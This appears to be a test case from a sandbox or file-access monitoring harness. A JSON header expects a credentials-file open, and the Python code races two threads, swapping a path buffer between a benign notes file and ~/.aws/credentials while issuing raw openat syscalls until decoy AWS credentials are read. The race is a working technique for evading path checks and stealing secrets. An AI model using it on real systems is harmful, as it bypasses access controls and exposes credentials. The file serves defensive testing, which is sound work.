#: {"class": "race", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
import threading
a = (HOME + "/.aws/credentials").encode(); b = (HOME + "/data/id_rsa_notes.md").encode(); b = b"/" * (len(a) - len(b)) + b; a = b"/" * (len(b) - len(a)) + a
buf = ctypes.create_string_buffer(a, len(a) + 1); stop = False; _c.syscall.restype = ctypes.c_long
def flip():
    while not stop: ctypes.memmove(buf, b, len(b)); ctypes.memmove(buf, a, len(a))
t = threading.Thread(target=flip); t.start()
for i in range(300000):
    f = _c.syscall(257, -100, buf, 0, 0)
    if f < 0: continue
    d = os.read(f, 999); os.close(f)
    if b"DECOY-aws" in d: LOOT(d); break
stop = True; t.join()
